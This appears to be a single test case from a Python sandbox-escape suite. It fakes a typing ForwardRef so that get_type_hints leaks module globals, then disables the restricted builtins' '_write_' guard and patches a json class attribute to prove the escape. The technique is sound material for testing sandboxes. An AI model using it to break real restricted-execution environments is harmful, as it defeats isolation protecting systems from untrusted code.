"""No app is handed the variables of a module by an annotation that only looks like a forward reference."""

CLASS = "eval"
BOUNDARY = "language"
NEEDS = ("typing", "json")


import json
import typing

found = []
Reference = type(typing.get_args(typing.List["int"])[0])


class Liar:
    def __getattribute__(self, name):
        if name == "__class__":
            return Reference
        if name == "__forward_arg__":
            return "int"
        return object.__getattribute__(self, name)

    def __call__(self):
        pass

    def _evaluate(self, globals, locals, *more, **named):
        found.append(globals)
        return int


def annotated(x: Liar()):
    pass


def attack():
    typing.get_type_hints(annotated)
    builtins = found[0]["__builtins__"]
    if isinstance(builtins, dict) and "_write_" in builtins:
        builtins["_write_"] = lambda obj, name: obj
    before = json.JSONEncoder.item_separator
    json.JSONEncoder.item_separator = " owned "
    text = json.JSONEncoder().encode([1, 2])
    json.JSONEncoder.item_separator = before
    return "ESCAPED: the library says " + text if "owned" in text else ""
